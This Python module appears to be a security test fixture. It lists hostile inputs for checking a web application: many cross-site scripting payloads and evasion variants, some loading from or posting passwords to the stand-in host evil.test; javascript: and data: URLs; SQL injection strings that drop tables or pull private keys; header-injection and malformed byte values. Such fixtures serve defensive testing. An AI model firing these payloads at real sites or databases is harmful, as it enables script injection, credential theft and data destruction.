"""Strings that break readers: markup that runs, addresses that run, SQL, and what is no text."""

MARK = "xss"
"""In every string, so that a page that shows one is known."""

XSS = (
    "<script>alert('xss')</script>",
    "<ScRiPt src=//evil.test/xss.js></sCrIpT>",
    "<scr<script>ipt>alert('xss')</scr</script>ipt>",
    "<img src=x onerror=alert('xss')>",
    "<img src=x onerror\n=alert('xss')>",
    "<img/src='x'/onerror='alert(`xss`)'>",
    '"><script>alert("xss")</script>',
    "'><svg onload=alert('xss')>",
    "\" onfocus=alert('xss') autofocus x=\"",
    "' onmouseover='alert(\"xss\")",
    "` onclick=alert('xss')",
    "</title><script>alert('xss')</script>",
    "</textarea><script>alert('xss')</script>",
    "</style><script>alert('xss')</script>",
    "--><script>alert('xss')</script><!--",
    "]]><script>alert('xss')</script>",
    "<svg><script>alert('xss')</script></svg>",
    "<svg><animate onbegin=alert('xss') attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert('xss')><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\">",
    "<iframe src=javascript:alert('xss')></iframe>",
    "<iframe srcdoc='<script>alert(`xss`)</script>'></iframe>",
    "<object data=javascript:alert('xss')></object>",
    "<embed src=javascript:alert('xss')>",
    "<base href=//evil.test/xss/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(`xss`)'>",
    "<link rel=stylesheet href=//evil.test/xss.css>",
    "<style>@import '//evil.test/xss.css';</style>",
    "<div style=\"background:url('//evil.test/xss')\">x</div>",
    "<form action=//evil.test/xss><input name=password><button>xss</button></form>",
    "<a href=javascript:alert('xss')>xss</a>",
    "<a href=' \x01java\tscript:alert(`xss`)'>xss</a>",
    "<a href=JaVaScRiPt&colon;alert('xss')>xss</a>",
    "<a href='data:text/html,<script>alert(`xss`)</script>'>xss</a>",
    "<a href=vbscript:msgbox('xss')>xss</a>",
    "<a href=//evil.test/xss>xss</a>",
    "<a href=/desk/members?xss>xss</a>",
    "{{7*7}} ${7*7} #{7*7} {% raise %} %(word_member)s %s %(xss)s %",
    "<h1>xss</h1><h1 onclick=alert(1)>xss</h1>",
    "<details open ontoggle=alert('xss')>xss</details>",
    "<video><source onerror=alert('xss')></video>",
    "\u202exss\u2066 <b>xss\u202d",
    "<!--[if gte IE 4]><script>alert('xss')</script><![endif]-->",
)

ADDRESSES = (
    "javascript:alert('xss')", " javascript:alert('xss')", "JAVASCRIPT:alert('xss')",
    "java\tscript:alert('xss')", "\x01javascript:alert('xss')",
    "data:text/html,<script>xss</script>",
    "vbscript:xss", "//evil.test/xss", "\\\\evil.test/xss", "/\\evil.test/xss", "file:///xss",
    'https://user:pass@evil.test/xss"onclick=alert(1)', "blob:https://evil.test/xss", "xss",
    "https://[", "http://[xss", "https://a\u2100xss.test/",
)  # fmt: skip

SQL = (
    "' OR '1'='1", "'; DROP TABLE account; --", '" OR 1=1 --', "%' OR '%'='",
    "1); DELETE FROM note",
    "\\'; SELECT pg_sleep(9); --", "' UNION SELECT id, rsa FROM actor_key --", "_%_%", "$1", ":id",
)  # fmt: skip

NO_TEXT = (
    b"%00", b"a%00b", b"%ed%a0%80", b"%ff%fe", b"%c0%80", b"%F0%9F", b"%u0041", b"%", b"%zz",
    b"a%0d%0aSet-Cookie:%20a=b", b"%e2%80%ae", b"%ef%bf%bf", b"9" * 400, b"-1", b"1e999", b"NaN",
    b"%2b" * 50, b"x" * 60_000, b"%f0%9f%91%8d" * 3000, b"%00" * 300,
)  # fmt: skip
"""Values as they stand in the body of a form."""
